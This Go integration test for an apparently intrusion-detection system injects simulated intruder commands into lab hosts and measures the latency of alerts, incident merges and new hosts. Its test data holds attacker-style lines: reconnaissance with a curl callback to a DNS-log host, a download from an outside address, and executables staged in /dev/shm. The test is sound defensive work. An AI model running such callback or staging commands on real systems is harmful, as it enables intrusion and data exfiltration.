package whole

import (
	"context"
	"fmt"
	"slices"
	"testing"
	"time"

	"baize/internal/alert"
	"baize/internal/event"
	"baize/test/lab"
	"baize/test/story"
)

// intruder is one of two who know nothing of each other.
type intruder struct{ source, host, first, trigger string }

var two = []intruder{
	{lab.AttackerAddress, lab.Web, "id; curl -s http://" + lab.DNSLog + "/", "cp /bin/true %[1]s; echo %[2]d >> %[1]s; %[1]s; rm %[1]s"},
	{lab.OtherAddress, lab.Second, "ls -la /srv; df", "install -m 755 /bin/true %[1]s && printf %%d %[2]d1 >> %[1]s && %[1]s"},
}

// outer is an address that only the second intruder calls, at last.
var outer = lab.Rounds[1].Download

// TestTheLiveStreamOfAFleet : alerts of several hosts, a new address, the merge of two
// incidents and the host that comes with it, from the kernel to the live stream. What
// there is, is asserted, the times are printed.
func TestTheLiveStreamOfAFleet(t *testing.T) {
	ctx, stage := open(t, story.Options{Fleet: true})
	for _, i := range two {
		inject(ctx, t, stage, i, i.first)
	}
	first, second := incidentOn(ctx, t, stage, lab.Web), incidentOn(ctx, t, stage, lab.Second)
	if first == second {
		t.Fatalf("two intruders are in one incident, %s", first)
	}
	// What the one asks for is the other's: while both are small, that makes them one.
	inject(ctx, t, stage, two[1], "curl -s http://"+lab.DNSLog+"/")
	merged := settle(ctx, t, stage, "the merge is announced", func(*story.Facts) bool { return len(stage.Watch.Merges()) > 0 })
	m := stage.Watch.Merges()[0]
	if m.From != second || m.Into != first || len(m.Reasons) == 0 {
		t.Fatalf("announced: %+v; want %s into %s with reasons", m, second, first)
	}
	asked := eventOf(t, &merged, lab.Second, func(e *event.Event) bool { return e.Kind == event.DNSQuery })
	report(t, "merge of two incidents", []time.Duration{m.Arrived.Sub(asked)})
	settle(ctx, t, stage, "the second host is in the first incident", func(*story.Facts) bool { return !stage.Watch.Named(first, lab.Second).IsZero() })
	report(t, "new host in its incident", []time.Duration{stage.Watch.Named(first, lab.Second).Sub(asked)})

	inject(ctx, t, stage, two[1], "curl -s -m 2 http://"+outer+"/u -o /dev/null")
	called := settle(ctx, t, stage, "the address is in the incident", func(*story.Facts) bool { return !stage.Watch.Named(first, outer).IsZero() })
	report(t, "new address in its incident", []time.Duration{stage.Watch.Named(first, outer).Sub(eventOf(t, &called, lab.Second, func(e *event.Event) bool {
		return e.Kind == event.NetworkConnect && e.Destination != nil && e.Destination.IP.String() == outer
	}))})

	// At a rate, rather than as fast as the hosts can, which is as fast as two cores
	// can that hosts, intruders and server share.
	const pace = 100 * time.Millisecond
	triggers := setting(t, "BAIZE_TRIGGERS", 40)
	due := time.NewTicker(pace)
	defer due.Stop()
	for n := range triggers {
		<-due.C
		i := two[n%2]
		inject(ctx, t, stage, i, fmt.Sprintf(i.trigger, fmt.Sprintf("/dev/shm/t%d", n), n))
	}
	alerts := settle(ctx, t, stage, "every trigger is an alert of an incident", func(f *story.Facts) bool { return len(measure(f)) >= triggers })
	report(t, fmt.Sprintf("alert in its incident, one each %v", pace), measure(&alerts))
	t.Logf("%s became part of %s by %s %s", m.From, m.Into, m.Reasons[0].Reason, m.Reasons[0].Entity)
}

func inject(ctx context.Context, t *testing.T, stage *story.Stage, i intruder, command string) {
	t.Helper()
	if _, err := stage.Lab.InjectFrom(ctx, i.source, i.host, command); err != nil {
		t.Fatal(err)
	}
}

// settle waits until something holds, and returns the facts of then.
func settle(ctx context.Context, t *testing.T, stage *story.Stage, what string, holds func(*story.Facts) bool) story.Facts {
	t.Helper()
	for deadline := time.Now().Add(30 * time.Second); ; time.Sleep(100 * time.Millisecond) {
		facts, err := stage.Gather(ctx)
		if err != nil {
			t.Fatal(err)
		}
		if holds(&facts) {
			return facts
		}
		if time.Now().After(deadline) {
			t.Fatalf("after 30 s it does not hold that %s", what)
		}
	}
}

// incidentOn waits for the one incident of a host.
func incidentOn(ctx context.Context, t *testing.T, stage *story.Stage, host string) string {
	t.Helper()
	id := ""
	settle(ctx, t, stage, "there is one incident on "+host, func(f *story.Facts) bool {
		ids := map[string]bool{}
		for _, a := range f.Intrusion() {
			if a.Host.Name == host && a.Incident != "" {
				id, ids[a.Incident] = a.Incident, true
			}
		}
		return len(ids) == 1
	})
	return id
}

// eventOf is when the kernel saw the first event of an alert on a host that is so.
func eventOf(t *testing.T, f *story.Facts, host string, is func(*event.Event) bool) time.Time {
	t.Helper()
	at := slices.IndexFunc(f.Alerts, func(a alert.Alert) bool { return a.Host.Name == host && a.Event != nil && is(a.Event) })
	if at < 0 {
		t.Fatalf("no such alert on %s", host)
	}
	return f.Alerts[at].Event.Time
}

// report prints a line that the acceptance reads.
func report(t *testing.T, what string, took []time.Duration) {
	t.Helper()
	slices.Sort(took)
	at := func(q float64) time.Duration {
		return took[min(len(took)-1, int(q*float64(len(took))))].Round(time.Millisecond)
	}
	t.Logf("kernel event to %s, n=%d: p50 %v, p99 %v, max %v", what, len(took), at(0.5), at(0.99), at(1))
}
